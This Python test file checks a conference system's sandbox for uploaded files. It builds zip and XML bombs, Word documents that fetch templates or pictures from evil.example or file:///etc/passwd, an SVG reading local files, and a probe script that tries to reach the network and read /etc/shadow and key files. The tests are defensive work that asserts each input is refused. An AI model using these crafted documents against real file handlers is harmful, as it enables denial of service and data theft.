"""Files made to do harm: refused, each with its reason, in little time, by a process with nothing to lose."""

from __future__ import annotations

import gzip
import io
import json
import os
import shutil
import subprocess
import sys
import time
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import pikepdf
import pytest
from PIL import Image

from conference.files import child, workshop
from conference.files.faults import MOST_PAGES, Fault, Unfit
from conference.files.kinds import Media
from conference.files.office import cleaned
from conference.files.wordml import is_fetching, without_hidden
from tests.files import made

pytestmark = pytest.mark.slow
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"


def refused(media: Media, content: bytes) -> Fault:
    begun = time.monotonic()
    with pytest.raises(Unfit) as caught:
        workshop.open_file(media, content)
    assert time.monotonic() - begun < 30
    return caught.value.fault


def png_of(width: int, height: int) -> bytes:
    """A PNG that says it is so large, and packs much of it into little."""
    rows = zlib.compressobj(9)
    count = min(height, 20_000, 10**8 // width)
    packed = b"".join(rows.compress(bytes(1 + width // 8)) for _ in range(count)) + rows.flush()

    def chunk(kind: bytes, data: bytes) -> bytes:
        return len(data).to_bytes(4, "big") + kind + data + zlib.crc32(kind + data).to_bytes(4, "big")

    head = width.to_bytes(4, "big") + height.to_bytes(4, "big") + b"\x01\x00\x00\x00\x00"
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", packed) + chunk(b"IEND", b"")


@pytest.mark.parametrize("side", [10_000, 60_000, 2**31 - 1])
def test_a_picture_that_is_too_large_is_not_unpacked(side: int) -> None:
    assert refused(Media.PNG, png_of(side, side)) in {Fault.PIXELS, Fault.BROKEN}


def test_a_picture_is_what_it_is_said_to_be() -> None:
    out = io.BytesIO()
    Image.new("L", (20, 20)).save(out, "GIF")
    for media in (Media.PNG, Media.JPEG):
        assert refused(media, out.getvalue()) is Fault.BROKEN


@pytest.mark.parametrize("cut", [100, 200, 1000])
def test_half_a_file_is_refused(cut: int) -> None:
    assert refused(Media.PNG, made.png()[:-cut]) is Fault.BROKEN
    assert refused(Media.PDF, made.pdf()[:cut]) is Fault.BROKEN


def _pdf(change: Callable[[pikepdf.Pdf], None], **how: object) -> bytes:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(made.pdf())) as document:
        change(document)
        document.save(out, **how)
    return out.getvalue()


def _many(document: pikepdf.Pdf) -> None:
    for _ in range(MOST_PAGES):
        document.pages.append(document.pages[0])


def _wide(document: pikepdf.Pdf) -> None:
    document.pages[0].mediabox = [0, 0, 1_000_000, 1_000_000]


def test_pdfs_are_limited() -> None:
    lock = pikepdf.Encryption(user="secret", owner="secret")
    assert refused(Media.PDF, _pdf(_many)) is Fault.PAGES
    assert refused(Media.PDF, _pdf(lambda _: None, encryption=lock)) is Fault.LOCKED
    assert refused(Media.PDF, b"%PDF-1.7\n" + os.urandom(5000)) is Fault.BROKEN
    wide = workshop.open_file(Media.PDF, _pdf(_wide))
    with Image.open(io.BytesIO(wide.pictures[0])) as image:
        assert max(image.size) <= 2_000


# --- Word ---


def _zip_bomb() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        target.writestr("word/document.xml", bytes(400_000_000))
    return out.getvalue()


def _lying_bomb() -> bytes:
    """A part that says it unpacks to little."""
    content = _zip_bomb()
    return content.replace((400_000_000).to_bytes(4, "little"), (1000).to_bytes(4, "little"))


def _rels(kind: str, target: str) -> Callable[[bytes], bytes]:
    line = f'<Relationship Id="x9" Type="http://x/{kind}" Target="{target}" TargetMode="External"/>'
    return lambda part: part.replace(b"</Relationships>", line.encode() + b"</Relationships>")


def _body(xml: str) -> Callable[[bytes], bytes]:
    return lambda part: part.replace(b"<w:body>", b"<w:body>" + xml.encode())


FIELD = "<w:p><w:r><w:instrText>{}</w:instrText></w:r></w:p>"
HARMFUL: dict[str, tuple[Callable[[], bytes], set[Fault]]] = {
    "a bomb": (_zip_bomb, {Fault.BOMB}),
    "a bomb that lies": (_lying_bomb, {Fault.BOMB, Fault.BROKEN}),
    "many parts": (lambda: _parts(4_000), {Fault.BOMB}),
    "no document": (lambda: b"PK\x03\x04 word/document.xml", {Fault.BROKEN}),
    "a template from elsewhere": (
        lambda: made.changed(made.docx(), "word/_rels/document.xml.rels",
                             _rels("attachedTemplate", "http://evil.example/t.dotm")),
        {Fault.ACTIVE},
    ),
    "a picture from elsewhere": (
        lambda: made.changed(made.docx(), "word/_rels/document.xml.rels",
                             _rels("image", "file:///etc/passwd")),
        {Fault.ACTIVE},
    ),
    "a field that fetches": (
        lambda: made.changed(made.docx(), "word/document.xml",
                             _body(FIELD.format('INCLUDEPICTURE "http://evil.example/x"'))),
        {Fault.ACTIVE},
    ),
    "a field that fetches, in pieces": (
        lambda: made.changed(made.docx(), "word/document.xml",
                             _body(FIELD.format("INCLUDE") + FIELD.format('TEXT "/etc/passwd"'))),
        {Fault.ACTIVE},
    ),
    "a document within it": (
        lambda: made.changed(made.docx(), "word/chunk.docx", lambda _: made.docx()), {Fault.ACTIVE},
    ),
    "a part to be read as another document": (
        lambda: made.changed(made.docx(), "word/_rels/document.xml.rels", lambda part: part.replace(
            b"</Relationships>", b'<Relationship Id="x" Type="x/aFChunk" Target="a"/></Relationships>')),
        {Fault.ACTIVE},
    ),
    "its text elsewhere": (
        lambda: made.changed(made.docx(), "_rels/.rels", lambda part: part.replace(
            b"word/document.xml", b"other/document.xml")),
        {Fault.ACTIVE},
    ),
    "macros": (
        lambda: made.changed(made.docx(), "[Content_Types].xml", lambda part: part.replace(
            b"wordprocessingml.document.main", b"ms-word.document.macroEnabled.main")),
        {Fault.ACTIVE},
    ),
    "entities without end": (
        lambda: made.changed(made.docx(), "word/document.xml", lambda part: part.replace(
            b"<w:document", b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;">]><w:document', 1)),
        {Fault.BOMB},
    ),
    "no XML": (
        lambda: made.changed(made.docx(), "word/document.xml", lambda _: b"<w:document"), {Fault.BROKEN},
    ),
    "in another encoding": (
        lambda: made.changed(made.docx(), "word/document.xml", lambda part: part.decode().encode("utf-16")),
        {Fault.BROKEN},
    ),
    "nested without end": (
        lambda: made.changed(made.docx(), "word/document.xml", _body("<w:p>" * 900 + "</w:p>" * 900)),
        {Fault.BOMB},
    ),
}  # fmt: skip


def _parts(count: int) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as target:
        for number in range(count):
            target.writestr(f"word/{number}.xml", b"")
    return out.getvalue()


@pytest.mark.parametrize("what", HARMFUL)
def test_a_harmful_document_is_not_given_to_libreoffice(what: str) -> None:
    make, faults = HARMFUL[what]
    with pytest.raises(Unfit) as caught:
        cleaned(make())
    assert caught.value.fault in faults


@pytest.mark.parametrize("name", ["word/media/a.svg", "word/media/A.EMF", "word/media/b.png", "word/media/c"])
@pytest.mark.parametrize("packed", [bytes, gzip.compress, lambda svg: b" " * 5000 + svg])
def test_a_picture_that_speaks_is_left_out(name: str, packed: Callable[[bytes], bytes]) -> None:
    svg = packed(b'<svg xmlns="http://www.w3.org/2000/svg"><image href="file:///etc/hostname"/></svg>')
    with zipfile.ZipFile(io.BytesIO(cleaned(made.changed(made.docx(), name, lambda _: svg)))) as kept:
        assert name not in kept.namelist()
        assert "word/document.xml" in kept.namelist()


@pytest.mark.parametrize("name", ["word/media/a.png", "word/media/b.JPG"])
def test_a_picture_of_pixels_stays(name: str) -> None:
    picture = made.png() if name.endswith("png") else made.jpeg()
    with zipfile.ZipFile(io.BytesIO(cleaned(made.changed(made.docx(), name, lambda _: picture)))) as kept:
        assert kept.read(name) == picture


def test_a_link_to_click_is_no_fetching() -> None:
    line = '<Relationship Id="a" Type="http://x/hyperlink" Target="http://x.example" TargetMode="External"/>'
    assert not is_fetching(f'<Relationships xmlns="{RELS}">{line}</Relationships>'.encode())
    assert is_fetching(f'<Relationships xmlns="{RELS}">{line.replace("hyper", "")}</Relationships>'.encode())


def test_what_is_cut_out_and_what_stays() -> None:
    part = (
        f'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="{W}"><w:body>'
        "<w:p><w:r><w:t>one</w:t></w:r><w:del><w:r><w:delText>gone</w:delText></w:r></w:del>"
        "<w:ins><w:r><w:t>two</w:t></w:r></w:ins><w:moveFrom><w:r><w:t>gone</w:t></w:r></w:moveFrom>"
        '<w:r><w:rPr><w:vanish/></w:rPr><w:t>gone</w:t></w:r><w:r><w:rPr><w:vanish w:val="0"/></w:rPr>'
        "<w:t>three — drei</w:t></w:r><w:pPr><w:rPr><w:del/></w:rPr></w:pPr></w:p></w:body></w:document>"
    )
    kept = without_hidden(part.encode()).decode()
    assert "gone" not in kept
    for word in ("one", "two", "three — drei"):
        assert word in kept
    assert without_hidden(kept.encode()).decode() == kept


def test_without_libreoffice_or_tesseract_it_says_what_to_do(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(child, "_ENVIRONMENT", {**child._ENVIRONMENT, "PATH": "/nowhere"})
    assert refused(Media.DOCX, made.docx()) is Fault.NO_OFFICE
    opened = workshop.open_file(Media.PNG, made.png())
    with pytest.raises(Unfit) as caught:
        workshop.redact(opened, regions=[], words=["x-ray"])
    assert caught.value.fault is Fault.NO_READER
    with pytest.raises(Unfit):  # nor is there a copy without words to look for
        workshop.redact(opened, regions=[(1, 0, 0, 500, 500)], words=[])


# --- the process in which it happens ---

ATTACK = """
import json, os, pathlib, resource, socket, sys
from conference.files import confining
given_up = confining.confine(pathlib.Path.cwd(), memory=2 * confining.GIB)
found = {"environment": sorted(os.environ), "folder": os.getcwd()}
try:
    socket.create_connection(("127.0.0.1", int(sys.argv[1])), 2)
    found["connected"] = True
except OSError:
    found["connected"] = False
try:
    bytearray(3 * confining.GIB)
    found["memory"] = True
except MemoryError:
    found["memory"] = False
found["given up"] = sorted(given_up)
for name in sys.argv[2:]:
    try:
        open(name, "ab" if name.endswith("new") else "rb").close()
        found[name] = True
    except OSError:
        found[name] = False
open("inside", "wb").close()
found["core"] = resource.getrlimit(resource.RLIMIT_CORE)
print(json.dumps(found))
"""


def _can_leave_the_network() -> bool:
    unshare = shutil.which("unshare")
    return unshare is not None and subprocess.run([unshare, "-rn", "true"], check=False).returncode == 0


def test_the_process_has_little_memory_no_network_and_no_other_files(tmp_path: Path) -> None:
    import socket

    with socket.create_server(("127.0.0.1", 0)) as server:
        (tmp_path / "inner").mkdir()
        (tmp_path / "conference.keys").write_bytes(b"secret")
        others = [str(tmp_path / "conference.keys"), str(tmp_path / "new"), f"/proc/{os.getpid()}/mem"]
        command = [sys.executable, "-I", "-c", ATTACK, str(server.getsockname()[1]), *others, "/etc/shadow"]
        environment = child._ENVIRONMENT
        said = subprocess.run(
            command, capture_output=True, check=True, cwd=tmp_path / "inner", env=environment
        )
    found = json.loads(said.stdout)
    assert found["memory"] is False
    assert found["core"] == [0, 0]
    assert not [name for name in found["environment"] if name.startswith("CONFERENCE_")]
    if _can_leave_the_network():
        assert "network" in found["given up"]
        assert found["connected"] is False
    if "files" in found["given up"]:  # Landlock: a kernel from 5.13 on that has it switched on
        assert not [name for name in (*others, "/etc/shadow") if found[name]]


def folders() -> set[str]:
    return {one.name for one in child._IN_MEMORY.glob("conference-file-*")}


def test_what_a_killed_server_left_is_swept_and_nothing_else(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(child, "_IN_MEMORY", tmp_path)
    for name in ("conference-file-old", "conference-file-new", "another"):
        (tmp_path / name).mkdir()
        (tmp_path / name / "document.docx").write_bytes(b"x")
    for name in ("conference-file-old", "another"):
        os.utime(tmp_path / name, (1, 1))
    child.sweep()
    assert {one.name for one in tmp_path.iterdir()} == {"conference-file-new", "another"}


@pytest.mark.parametrize(
    ("code", "fault"),
    [
        ("import os; os._exit(0)", Fault.BROKEN),
        ("import os; os.kill(os.getpid(), 11)", Fault.BROKEN),
        ("print('nonsense')", Fault.BROKEN),
        ("import time; time.sleep(60)", Fault.SLOW),
        ("import subprocess, time; subprocess.Popen(['sleep', '61']); time.sleep(60)", Fault.SLOW),
    ],
)
def test_whatever_becomes_of_the_process_is_a_refusal(
    code: str, fault: Fault, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    program = tmp_path / "worker"
    program.write_text(f"#!{sys.executable}\n{code}\n", "utf-8")
    program.chmod(0o755)
    monkeypatch.setattr(sys, "executable", str(program))
    before = folders()
    with pytest.raises(Unfit) as caught:
        child.run("open", {}, [b"x"], seconds=1.5)
    assert caught.value.fault is fault
    assert folders() <= before
    if "61" in code:
        left = subprocess.run(["pgrep", "-f", "^sleep 61$"], capture_output=True, check=False)
        assert left.stdout == b""
